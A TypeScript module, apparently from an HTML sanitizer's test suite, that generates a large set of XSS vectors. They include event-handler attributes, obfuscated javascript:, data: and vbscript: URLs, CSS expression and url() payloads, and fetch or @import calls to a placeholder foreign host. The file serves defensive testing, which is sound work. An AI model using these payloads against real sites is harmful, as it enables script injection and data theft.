import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import {
  breakouts,
  elements,
  FOREIGN_HOST,
  mutations,
  odd,
  type Run,
  SENTINEL,
  unfinished,
} from "./hostile-elements.ts";

/** HTML that tries to run a script, to leave the page or to contact another site. */
export type HostileVector = {
  html: string;
  /** Changes how the text after it is parsed, so it must be tested alone as well. */
  isRisky: boolean;
};

const RUNS = [
  ...[
    "alert(1)",
    "alert`1`",
    `self.${SENTINEL}=1`,
    `top['${SENTINEL}']=1`,
    "confirm(1)",
    "prompt(1)",
    "print()",
  ],
  ...[`fetch('//${FOREIGN_HOST}/')`, `location='//${FOREIGN_HOST}/'`, "(alert)(1)", "[1].map(alert)"],
];

/**
 * Returns every vector of ours, over a thousand, always the same ones, and those of the public
 * collections if their folder is next to the project.
 */
export function hostileVectors(): HostileVector[] {
  let turn = 0;
  const run = () => RUNS[turn++ % RUNS.length] as string;
  const plain = [
    ...handlers(run),
    ...addresses(run),
    ...styles(),
    ...breakouts(run),
    ...elements(run),
    ...odd(run),
  ];
  const risky = [...mutations(run), ...unfinished(run)];
  return [
    ...[...new Set(plain)].map((html) => ({ html, isRisky: false })),
    ...[...new Set(risky)].map((html) => ({ html, isRisky: true })),
    ...collected().map((html) => ({ html, isRisky: false })),
  ];
}

/** Elements: some load something, some are allowed, some are unknown. */
const TAGS = [
  ...[
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "iframe",
    "object",
    "embed",
    "input",
    "details",
    "marquee",
    "a",
    "p",
  ],
  ...[
    "figure",
    "table",
    "td",
    "ul",
    "span",
    "mark",
    "h2",
    "blockquote",
    "hr",
    "br",
    "math",
    "form",
    "select",
    "x-y",
  ],
];
const HANDLERS = [
  ...[
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpageshow",
  ],
  ...[
    "onpointerrawupdate",
    "oncontentvisibilityautostatechange",
    "onbeforetoggle",
    "ONERROR",
    "on\u0000error",
    "oNfOcUs",
  ],
];

function handlers(run: Run): string[] {
  return TAGS.flatMap((tag, index) =>
    Array.from({ length: 8 }, (_, nth) => {
      const handler = HANDLERS[(index + nth * 2) % HANDLERS.length] as string;
      const forms = [
        `<${tag} src=x ${handler}="${run()}" autofocus tabindex=1>x</${tag}>`,
        `<${tag}/${handler}=${run()} src open>`,
        `<${tag}\n${handler}\n=\n'${run()}' style=animation-name:x contenteditable>x`,
        `<${tag} a=">" ${handler}=&#97;lert(1)//`,
        `<${tag} class="x"${handler}="${run()}">x</${tag}>`,
        `<<${tag} ${handler}=${run()}>>x`,
        `<${tag} \u000c${handler}="&#x61;lert(1)" id=x>`,
        `</${tag} ${handler}=${run()}><${tag} href=x ${handler}=${run()}>`,
      ];
      return forms[nth] as string;
    }),
  );
}

const PLACES = [
  ...[
    "a href",
    "area href",
    "a xlink:href",
    "svg><a xlink:href",
    "math href",
    "form action",
    "button formaction",
  ],
  ...[
    "iframe src",
    "object data",
    "embed src",
    "img src",
    "img srcset",
    "video poster",
    "input type=image src",
  ],
  ...[
    "link rel=stylesheet href",
    "base href",
    "body background",
    "a ping",
    "iframe srcdoc",
    "meta http-equiv=refresh content",
  ],
];

function addresses(run: Run): string[] {
  const encoded = (text: string) => Array.from(text, (sign) => `&#${sign.charCodeAt(0)};`).join("");
  const schemes: ((script: string) => string)[] = [
    (script) => `javascript:${script}`,
    (script) => `JaVaScRiPt:${script}`,
    (script) => `java\tscript:${script}`,
    (script) => `java&#10;script&colon;${script}`,
    (script) => `\u0001javascript:${script}`,
    (script) => `&#x09;${encoded("javascript:")}${script}`,
    (script) => `javascript://%0a${script}//`,
    (script) => `data:text/html,<script>${script}</script>`,
    (script) => `data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString("base64")}`,
    (script) =>
      `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script.replaceAll("'", "")}'/>`,
    (script) => `vbscript:${script}`,
    () => `//${FOREIGN_HOST}/x`,
    () => `/\\${FOREIGN_HOST}/x`,
    () => `\\\\${FOREIGN_HOST}\\x`,
    () => `https://${FOREIGN_HOST}/x 1x`,
    (script) => `0;url=javascript:${script}`,
    (script) => `blob:javascript:${script}`,
    (script) => `view-source:javascript:${script}`,
  ];
  return PLACES.flatMap((place) =>
    schemes.map((scheme) => `<${place}="${scheme(run()).replaceAll('"', "")}">x</${place.split(" ")[0]}>`),
  );
}

function styles(): string[] {
  const values = [
    ...[
      "expression(alert(1))",
      `url(//${FOREIGN_HOST}/a)`,
      "url(javascript:alert(1))",
      `image-set('//${FOREIGN_HOST}/a' 1x)`,
    ],
    ...[
      "\\65xpression(alert(1))",
      `u\\72l(//${FOREIGN_HOST}/b)`,
      `-moz-binding:url(//${FOREIGN_HOST}/c)`,
      "red;behavior:url(x)",
    ],
  ];
  const properties = [
    "background",
    "background-image",
    "list-style",
    "color",
    "text-align",
    "content",
    "cursor",
    "width",
  ];
  const inline = properties.flatMap((property) =>
    values.map(
      (value) =>
        `<p style="${property}:${value}">x</p><span style='color:#cd0015;${property}:${value}'>x</span>`,
    ),
  );
  const sheets = values.map(
    (value) => `<style>*{background:${value}}@import '//${FOREIGN_HOST}/d';</style><p>x`,
  );
  return [
    ...inline,
    ...sheets,
    `<link rel=stylesheet href=//${FOREIGN_HOST}/e.css>`,
    `<svg><style>@import"//${FOREIGN_HOST}/f"</style></svg>`,
  ];
}

function collected(): string[] {
  const folder = path.resolve(import.meta.dirname, "../../../shared/corpora");
  return ["hostile-html.json", "naughty-strings.json"].flatMap((name) => {
    const file = path.join(folder, name);
    return existsSync(file) ? (JSON.parse(readFileSync(file, "utf8")) as string[]) : [];
  });
}
